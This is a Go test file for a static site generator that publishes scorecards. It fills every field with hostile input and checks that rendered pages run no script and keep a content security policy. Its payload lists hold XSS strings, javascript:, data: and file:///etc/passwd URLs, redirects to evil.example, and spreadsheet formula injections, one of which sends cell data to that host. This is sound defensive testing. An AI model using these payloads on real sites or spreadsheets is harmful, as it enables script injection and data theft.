package site

import (
	"bytes"
	"fmt"
	"path/filepath"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"makegood/config"
	"makegood/crawler/archive"
	"makegood/output"
	"makegood/scoring"
)

// wicked are texts as nobody writes them who only wants to be read.
var wicked = []string{
	`"><script>document.title = window.hacked = 1</script><img src=x onerror="window.hacked=1"><b a='`,
	`=HYPERLINK("http://evil.example/?"&A1,"open")`,
	"\u202egnp.exe\u2066 \u200f\u061c\u2069 over\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u030a",
	"\x00\x07\x1b[31mred\x7f\u0085\u2028]]>--></style></script></textarea></title>{{.}}${1}%s",
	strings.Repeat("Donaudampfschifffahrtsgesellschaft", 9),
	strings.Repeat("ميناء", 60) + strings.Repeat("港", 90),
	`<svg onload=window.hacked=1><style>*{display:none}</style><base href="//evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">`,
	`@SUM(1+1)*cmd|' /C calc'!A0` + "\t+1\r\n-1",
}

// wickedURLs are addresses that a page or a table of signatories may name.
var wickedURLs = []string{
	"javascript:window.hacked=1//https://x.example/",
	`https://x.example/"><script>window.hacked=1</script>?a=1&amp;b='` + strings.Repeat("w", 300),
	"data:text/html,<script>window.hacked=1</script>",
	"https://user:secret@evil.example/",
	"//evil.example/x.js",
	"https://\u202eelpmaxe.example/\x00\u2066?=1+1",
	"vbscript:msgbox(1)", "file:///etc/passwd", " https://x.example/ ",
}

// A villain hands out what is wicked, one after the other.
type villain struct{ texts, urls int }

func (v *villain) text() string {
	v.texts++
	return wicked[v.texts%len(wicked)]
}

func (v *villain) url() string {
	v.urls++
	return wickedURLs[v.urls%len(wickedURLs)]
}

// hostile is an edition in which every text from elsewhere tries to break out.
func hostile() output.Edition {
	e := withObservations(twelve("2026-Q4"))
	v := &villain{}
	urls := map[string]string{} // an address that is cited, and what takes its place
	for i := range e.Scorecards {
		card := &e.Scorecards[i]
		card.Name, card.Country, card.Website = fmt.Sprint(i, " ", v.text()), v.text(), v.url()
		card.Summary, card.SummaryFR = v.text(), v.text()
		if card.Withheld != "" {
			card.Withheld = v.text()
		}
		card.Reading.Languages = append(card.Reading.Languages, v.text())
		for k := range card.Reading.Sources {
			s := &card.Reading.Sources[k]
			s.URL, s.Kind, s.Robots, s.State, s.Reason = v.url(), v.text(), v.text(), v.text(), v.text()
		}
		e.Signatories[i].Name, e.Signatories[i].Country, e.Signatories[i].Website, e.Signatories[i].Joined = card.Name, card.Country, card.Website, v.text()
	}
	for i := range e.Observations {
		o := &e.Observations[i]
		o.Host, o.Basis[0].URL = v.text(), v.url()
		for k := range o.Facts {
			o.Facts[k].Value = v.text()
		}
		o.Facts = append(o.Facts, archive.Fact{Name: v.text(), Value: v.url()})
	}
	for i := range e.Findings {
		x := &e.Findings[i]
		x.Reason.Text, x.Reason.FR, x.Probe, x.Confidence = v.text(), v.text(), v.text(), v.text()
		x.Searched.Languages, x.Searched.Missing = append(x.Searched.Languages, v.text()), append(x.Searched.Missing, v.text(), v.url())
		for k := range x.Evidence {
			v.taint(&x.Evidence[k], urls)
		}
	}
	for i := range e.Commitments {
		c := &e.Commitments[i]
		c.Text, c.What, c.Measure, c.Due, c.Language, c.URL = v.text(), v.text(), v.text(), v.text(), v.text(), v.url()
	}
	for i := range e.Snapshots {
		s := &e.Snapshots[i]
		s.URL, s.ContentType, s.ETag, s.LastModified, s.Reason = urls[s.URL], v.text(), v.text(), v.text(), v.text()
	}
	for i := range e.Meta.Archive {
		e.Meta.Archive[i].File = v.text()
	}
	e.Meta.Country = v.text()
	for i := range e.Translations {
		e.Translations[i].Text, e.Translations[i].Translator, e.Translations[i].MadeOn = v.text(), v.text(), v.text()
	}
	for i := range e.Replies {
		r := &e.Replies[i]
		r.From, r.How, r.ConfirmedBy, r.Edition, r.Language, r.Text, r.Response, r.SHA256 = v.text(), v.text(), "x"+v.text(), v.text(), v.text(), v.text()+"\n"+v.text(), v.text(), v.text()
	}
	v.taintDeclared(&e)
	return e
}

// taint changes what was read of a page, and keeps the cues where they are.
func (v *villain) taint(ev *scoring.Evidence, urls map[string]string) {
	if urls[ev.URL] == "" {
		urls[ev.URL] = v.url() + fmt.Sprint("#", len(urls))
	}
	ev.URL = urls[ev.URL]
	ev.Title, ev.Heading, ev.Before, ev.After = v.text(), v.text()+" / "+v.text(), v.text(), v.text()
	ev.Quote += " " + v.text()
	ev.End = ev.Start + len(ev.Quote)
	ev.Published, ev.Language, ev.Origin, ev.SavedBy = v.text(), v.text(), "saved", v.text()
	ev.Lead, ev.Record.File = v.text()+":", v.text()
	for i := range ev.Cues {
		ev.Cues[i].Text = v.text()
	}
}

// taintDeclared changes what an operator may have copied from elsewhere, all
// but patterns, which are checked.
func (v *villain) taintDeclared(e *output.Edition) {
	in := &e.Initiatives[0]
	in.Title, in.About, in.URL = config.Text{"en": v.text(), "fr": v.text()}, config.Text{"en": v.text()}, v.url()
	for i := range in.Examples {
		in.Examples[i].Text, in.Examples[i].Language = v.text(), v.text()
	}
	for i := range in.Pledges {
		p := &in.Pledges[i]
		p.Title, p.Description, p.URL, p.Because = config.Text{"en": v.text(), "fr": v.text()}, config.Text{"en": v.text(), "fr": v.text()}, v.url(), v.text()
		for k := range p.Indicators {
			p.Indicators[k].Title = config.Text{"en": v.text()}
			for l := range p.Indicators[k].Elements {
				p.Indicators[k].Elements[l].Claim, p.Indicators[k].Elements[l].Because = config.Text{"en": v.text()}, v.text()
			}
		}
	}
	e.Method.Title = config.Text{"en": v.text()}
	for i := range e.Method.Bands {
		e.Method.Bands[i].Because = v.text()
	}
	for i := range e.Cues {
		e.Cues[i].Because = v.text()
	}
}

// Whatever a page, a title or an address says, it stays text.
func TestFault50NothingHostileGetsOut(t *testing.T) {
	now := hostile()
	for name, page := range pages(t, written(t, now, spring("2026-Q2", &now))) {
		walk(t, page, func(n *html.Node) {
			switch {
			case n.Data == "script" && attr(n, "src") == "" && attr(n, "type") != "application/ld+json":
				t.Errorf("%s has an inline script", name)
			case n.Data == "style":
				t.Errorf("%s has an inline style sheet", name)
			case n.Data == "img" && attr(n, "onerror") != "":
				t.Errorf("%s has an image that a page brought", name)
			}
			for _, a := range n.Attr {
				if strings.HasPrefix(a.Key, "on") || a.Key == "style" || strings.HasPrefix(strings.TrimSpace(strings.ToLower(a.Val)), "javascript:") {
					t.Errorf("%s has %s=%q", name, a.Key, a.Val)
				}
			}
		})
		for _, mark := range []string{"\u202e", "\x1b", "\x7f"} {
			if i := bytes.Index(page, []byte(mark)); i >= 0 {
				t.Errorf("%s lets through a character that does more than stand there: %q", name, page[max(0, i-60):i+1])
			}
		}
		if !bytes.Contains(page, []byte("default-src 'none'")) {
			t.Errorf("%s has no content security policy", name)
		}
	}
}

// TestAHostileEditionInABrowser opens one page of each type: nothing runs, the
// console stays silent, nothing is asked of others, and all of it has room.
func TestAHostileEditionInABrowser(t *testing.T) {
	now := hostile()
	dir := written(t, now, spring("2026-Q2", &now))
	b := openBrowser(t, dir)
	for kind, name := range pageTypes(t, dir) {
		t.Run(kind, func(t *testing.T) {
			for _, width := range []int64{360, 1280} {
				b.fits(t, name, width)
				if (&reader{browser: b, t: t}).hacked() {
					t.Errorf("%s: a script of theirs ran", name)
				}
			}
		})
	}
}

func (r *reader) hacked() bool { return see[bool](r, "window.hacked !== undefined") }

// pageTypes finds a page of each template, by its name in the way to it.
func pageTypes(t *testing.T, dir string) map[string]string {
	t.Helper()
	names := kindsOfPage(t, dir, "")
	names["card"], names["pledge"] = oneOf(t, dir, "")
	for kind, glob := range map[string]string{
		"names": "2026-Q4/names/*", "ranking": "2026-Q4/ranking/*/*", "rules": "2026-Q4/method/pledges/*", "pledge-rules": "2026-Q4/method/pledges/*/*", "words": "2026-Q4/method/words/*",
		"replies": "2026-Q4/replies", "observed": "2026-Q4/observed/*", "reply": "2026-Q4/replies/of/*",
	} {
		found, err := filepath.Glob(filepath.Join(dir, filepath.FromSlash(glob), "index.html"))
		if err != nil || len(found) == 0 {
			t.Fatalf("%s: %v", glob, err)
		}
		name, err := filepath.Rel(dir, found[0])
		if err != nil {
			t.Fatal(err)
		}
		names[kind] = filepath.ToSlash(name)
	}
	return names
}
